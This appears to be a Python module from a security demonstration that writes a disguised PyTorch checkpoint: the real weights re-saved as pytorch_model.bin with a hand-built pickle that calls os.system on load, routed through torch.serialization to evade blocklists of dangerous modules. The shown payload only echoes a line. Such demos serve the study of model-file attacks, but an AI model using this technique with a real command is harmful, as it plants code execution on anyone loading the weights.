"""Makes the demo's hostile copy: the same weights saved again as ``pytorch_model.bin``, with one call added.

The file is what ``torch.save`` writes: a zip with a pickle that describes the tensors and one member for each storage. The
pickle is written here opcode by opcode from text. What it would call when loaded prints a line and does nothing else;
nothing here or in the demo ever loads it.
"""

from __future__ import annotations

import json
import shutil
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

__all__ = ["PAYLOAD", "make"]

PAYLOAD = "echo this line was printed by the model, with your rights"
# `os.system` under a name that no list of dangerous modules has: the pickle walks from torch.serialization to its `os`
_CALLABLE = ("torch.serialization", "os.system")
_STORAGES = {"F32": "FloatStorage", "F16": "HalfStorage", "BF16": "BFloat16Storage", "I64": "LongStorage"}
_ROOT = "pytorch_model"


def make(real: Path, copy: Path) -> None:
    """Fill ``copy`` with the files of ``real``, its weights in ``pytorch_model.bin`` in place of ``model.safetensors``."""
    if copy.exists():
        shutil.rmtree(copy)
    shutil.copytree(real, copy, ignore=shutil.ignore_patterns("model.safetensors"))
    _save_again(real / "model.safetensors", copy / "pytorch_model.bin")


def _save_again(weights: Path, target: Path) -> None:
    with weights.open("rb") as file, zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as archive:
        (length,) = struct.unpack("<Q", file.read(8))
        header: dict[str, Any] = json.loads(file.read(length))
        header.pop("__metadata__", None)
        tensors = sorted(header.items(), key=lambda item: item[1]["data_offsets"])

        def put(name: str, data: bytes) -> None:
            archive.writestr(zipfile.ZipInfo(f"{_ROOT}/{name}"), data)

        put("data.pkl", b"".join(_program(tensors)))
        put("byteorder", b"little")
        for number, (_, tensor) in enumerate(tensors):
            start, end = tensor["data_offsets"]
            file.seek(8 + length + start)
            put(f"data/{number}", file.read(end - start))
        put("version", b"3\n")


def _program(tensors: list[tuple[str, dict[str, Any]]]) -> Iterator[bytes]:
    """The pickle: one call whose result is dropped, then a state dict as ``torch.save`` would describe it."""
    yield b"\x80\x04"  # PROTO 4
    yield _global(*_CALLABLE) + _text(PAYLOAD) + b"\x85R0"  # TUPLE1 REDUCE POP
    yield _empty("collections", "OrderedDict") + b"("  # MARK
    for number, (name, tensor) in enumerate(tensors):
        yield _text(name) + _tensor(str(number), tensor)
    yield b"u."  # SETITEMS STOP


def _tensor(key: str, tensor: dict[str, Any]) -> bytes:
    shape: list[int] = tensor["shape"]
    strides: list[int] = []
    step = count = 1
    for extent in reversed(shape):
        strides.insert(0, step)
        step *= extent
        count *= extent
    storage = b"(" + _text("storage") + _global("torch", _STORAGES[tensor["dtype"]])
    storage += _text(key) + _text("cpu") + _number(count) + b"tQ"  # TUPLE BINPERSID
    arguments = storage + _number(0) + _tuple(shape) + _tuple(strides) + b"\x89"  # NEWFALSE
    return (
        _global("torch._utils", "_rebuild_tensor_v2") + b"(" + arguments + _empty("collections", "OrderedDict") + b"tR"
    )


def _text(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data  # BINUNICODE


def _number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)  # BININT


def _tuple(values: list[int]) -> bytes:
    return b"(" + b"".join(map(_number, values)) + b"t"  # MARK TUPLE


def _global(module: str, name: str) -> bytes:
    return _text(module) + _text(name) + b"\x93"  # STACK_GLOBAL


def _empty(module: str, name: str) -> bytes:
    return _global(module, name) + b")R"  # EMPTY_TUPLE REDUCE
